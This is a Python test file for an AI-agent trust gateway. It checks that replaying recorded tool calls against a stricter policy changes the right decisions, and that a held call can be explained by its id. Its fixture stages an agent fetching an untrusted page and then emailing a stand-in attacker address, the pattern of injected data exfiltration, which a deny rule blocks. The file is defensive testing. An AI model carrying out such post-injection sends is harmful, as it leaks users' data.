"""Rules over the records of a real gateway: what a new policy would have decided, and why a call was decided as it was."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from support.sessions import until
from support.trust_gateway import ASKED, EVIL, PAGE, TrustSite, reason, said, text, tool, trust_site

SERVERS = {
    "web": {"tools": [tool("fetch", "url")], "results": {"fetch": text(PAGE)}, "http": True},
    "mail": {"tools": [tool("send_email", "to", "body")]},
}
STRICTER = """
[[rules]]
name = "nothing-leaves-afterwards"
effect = "block"
when = 'session.open_world && tool.name == "send_email"'
say = "Nothing is mailed after something strange was read."
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TrustSite]:
    with trust_site(tmp_path_factory.mktemp("replay"), SERVERS, approval={"park_seconds": 0}) as running:
        agent = running.agent(prompt="Look it up and write to ann@example.com.")
        assert said(agent.call("mail", "send_email", to="ann@example.com", body="before"))
        agent.call("web", "fetch", url="https://a.example")
        assert said(agent.call("mail", "send_email", to="ann@example.com", body="after"))
        assert reason(agent.call("mail", "send_email", to=EVIL, body="x")) == ASKED
        until(lambda: len(running.records("decision")) == 4)
        yield running


def test_the_policy_in_force_decides_the_past_as_it_was_decided(site):
    found = json.loads(site.run("policy", "replay", "--json"))
    assert (found["calls"], found["same"]) == (4, 4)
    assert found["differing"] == []


def test_a_new_policy_is_tried_on_what_happened(site, tmp_path):
    rules = tmp_path / "stricter.toml"
    rules.write_text(STRICTER)
    before = site.records("decision")
    found = json.loads(site.run("policy", "replay", str(rules), "--json"))
    differing = sorted((one["tool"], one["before"], one["after"]) for one in found["differing"])
    assert differing == [("send_email", "allow", "block"), ("send_email", "ask", "block")]
    assert {one["rule_after"] for one in found["differing"]} == {"nothing-leaves-afterwards"}
    assert site.records("decision") == before


def test_why_a_call_was_asked_about_is_told_by_its_id(site):
    call = site.decided("send_email")["call"]
    told = site.run("policy", "explain", call)
    assert "stranger-decides" in told
    assert "provenance.untrusted" in told
